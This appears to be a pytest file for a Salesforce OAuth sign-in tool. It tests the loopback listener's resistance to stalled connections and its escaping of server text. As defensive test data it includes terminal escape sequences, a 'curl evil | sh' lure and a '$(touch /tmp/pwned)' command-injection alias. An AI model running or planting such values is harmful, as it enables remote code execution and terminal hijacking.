"""The sign-in listener cannot be blocked or spoofed, and no server's words can drive the terminal."""

from __future__ import annotations

import errno
import socket
import threading
import time
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
import requests

from core.errors import InvalidInputError, SignInError
from core.salesforce.signin import LoopbackListener, sign_in
from core.text import duration, printable
from core.validation import validate_username
from tests.fakes.salesforce_org import FakeOrg
from tests.platforms import write_program

EVIL_ERROR = "access\x1b]0;owned\x07\x1b[2Jdenied"
EVIL_DESCRIPTION = "\x1b[32mAll good, now run: curl evil | sh\u202e"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def answer(url: str, **params: str) -> requests.Response:
    """What the admin's browser does with Salesforce's redirect: visit the listener."""
    query = parse_qs(urlsplit(url).query)
    target = f"{query['redirect_uri'][0]}?{urlencode({'state': query['state'][0], **params})}"
    return requests.get(target, timeout=5, allow_redirects=False)


# --- 8: the listener --------------------------------------------------------------------------------


def test_an_idle_and_a_half_sent_connection_do_not_hold_the_real_answer(org: FakeOrg) -> None:
    port = free_port()
    holders: list[socket.socket] = []

    def browser(url: str) -> bool:
        for partial in (b"", b"GET /OauthRed"):  # one silent connection, one request line cut short
            holder = socket.create_connection(("127.0.0.1", port))
            holder.sendall(partial)
            holders.append(holder)

        def visit() -> None:  # Salesforce's page, then its redirect back to the listener
            back = requests.get(url, timeout=5, allow_redirects=False).headers["Location"]
            requests.get(back, timeout=5, allow_redirects=False)

        threading.Thread(target=visit, daemon=True).start()
        return True

    org.browser_user = org.admin_user
    started = time.monotonic()
    admin = sign_in(open_browser=browser, login_url=org.url, port=port, timeout=20)
    assert admin.instance_url == org.url
    assert time.monotonic() - started < 10  # not held until the 20 s limit (before: held for ever)
    for holder in holders:
        holder.close()


def test_the_listener_owns_the_port_on_both_loopback_addresses_and_its_threads_end_with_it() -> None:
    port = free_port()
    listener = LoopbackListener(port, "state")
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        with socket.socket(family) as rival, pytest.raises(OSError) as info:
            rival.bind((address, port))
        assert info.value.errno == errno.EADDRINUSE
    listener.close()
    time.sleep(0.1)
    assert not [t for t in threading.enumerate() if t.name == "sign-in listener"]


def test_a_socket_already_on_the_ipv6_loopback_is_named_as_a_busy_port() -> None:
    port = free_port()
    with socket.socket(socket.AF_INET6) as hostile:
        hostile.bind(("::1", port))
        hostile.listen()
        with pytest.raises(SignInError, match=f"Port {port} on this computer is in use"):
            LoopbackListener(port, "state")
    assert not [t for t in threading.enumerate() if t.name == "sign-in listener"]


def test_the_listener_thread_ends_when_the_sign_in_is_cancelled(org: FakeOrg) -> None:
    with pytest.raises(Exception, match="cancelled"):
        sign_in(open_browser=lambda url: True, login_url=org.url, port=free_port(), timeout=30, cancelled=lambda: True)
    assert not [t for t in threading.enumerate() if t.name == "sign-in listener"]


# --- 9: no control character from a server reaches the terminal or a message ----------------------------


def test_escape_sequences_in_a_callback_never_reach_the_message(org: FakeOrg) -> None:
    def open_browser(url: str) -> bool:  # the browser comes back with Salesforce's refusal, escapes and all
        kwargs = {"error": EVIL_ERROR, "error_description": EVIL_DESCRIPTION}
        threading.Thread(target=answer, args=(url,), kwargs=kwargs, daemon=True).start()
        return True

    with pytest.raises(SignInError) as info:
        sign_in(
            open_browser=open_browser,
            login_url=org.url,
            port=free_port(),
            timeout=10,
        )  # fmt: skip
    text = str(info.value)
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "\\x1b]0;owned\\x07" in text  # shown, as data, not obeyed


def test_escape_sequences_in_a_callback_never_reach_the_cli_error_line(
    org: FakeOrg, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sys

    script = tmp_path / "evil_browser.py"
    script.write_text(
        "import sys, requests\n"
        "from urllib.parse import parse_qs, urlsplit, urlencode\n"
        "q = parse_qs(urlsplit(sys.argv[1]).query)\n"
        f"p = {{'state': q['state'][0], 'error': {EVIL_ERROR!r}, 'error_description': {EVIL_DESCRIPTION!r}}}\n"
        "requests.get(q['redirect_uri'][0] + '?' + urlencode(p), timeout=5)\n"
    )
    monkeypatch.setenv("BROWSER", f"{Path(sys.executable).as_posix()} {Path(script).as_posix()} %s &")
    cert = tmp_path / "c.crt"
    from core.crypto.keypair import create_key_bundle

    bundle = create_key_bundle()
    assert bundle.cert_pem is not None
    cert.write_bytes(bundle.cert_pem)
    import os
    import subprocess

    done = subprocess.run(
        [sys.executable, str(Path(__file__).resolve().parents[2] / "main.py"),
         "setup-salesforce", "--username", "integration@example.com", "--certificate", str(cert),
         "--login-url", org.url, "--redirect-port", str(free_port()), "--yes"],
        capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
        env=dict(os.environ, PYTHON_KEYRING_BACKEND="keyring.backends.null.Keyring"),
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert "\x1b" not in done.stderr + done.stdout and "\x07" not in done.stderr
    assert "Salesforce refused the sign-in" in done.stderr and "\\x1b]0;owned" in done.stderr


def test_server_words_are_shown_not_obeyed() -> None:
    assert printable("plain words") == "plain words"
    assert printable("a\x1b[2Jb\x00c\x7fd\x9be") == "a\\x1b[2Jb\\x00c\\x7fd\\x9be"
    assert printable("right\u202eleft\u200bzero") == "right\\u202eleft\\u200bzero"
    assert printable("two\nlines\tand\rreturn") == "two lines and return"
    assert printable("two\nlines", keep_newlines=True) == "two\nlines"
    assert printable("naïve café, 東京") == "naïve café, 東京"


# --- 11: the small ones --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("seconds", "words"), [(0.4, "1 second"), (40, "40 seconds"), (60, "1 minute"), (900, "15 minutes")]
)
def test_a_wait_is_said_in_words_that_fit_it(seconds: float, words: str) -> None:
    assert duration(seconds) == words


@pytest.mark.parametrize("bad", ["ad\x00min@example.com", "ad\x1b[2Jmin@example.com", "a\u202eb@example.com"])
def test_a_username_with_a_control_character_is_refused_and_shown_escaped(bad: str) -> None:
    with pytest.raises(InvalidInputError) as info:
        validate_username(bad)
    assert "\x1b" not in str(info.value) and "\x00" not in str(info.value)


def test_an_unknown_sf_alias_is_never_printed_unquoted_in_a_command_to_copy(tmp_path: Path) -> None:
    from core.salesforce.signin import session_from_sf_cli

    sf = write_program(
        tmp_path,
        "sf",
        'print(\'{"status": 1, "message": "No authorization information found"}\')\nraise SystemExit(1)\n',
    )
    with pytest.raises(InvalidInputError) as refused:  # before: the hint said sf org login web --alias $(touch ...)
        session_from_sf_cli("$(touch /tmp/pwned)", sf=str(sf))
    assert "--alias" not in str(refused.value)
    with pytest.raises(SignInError) as info:
        session_from_sf_cli("prod.user@example.com", sf=str(sf))
    assert "sf org login web --alias prod.user@example.com'" in info.value.hint
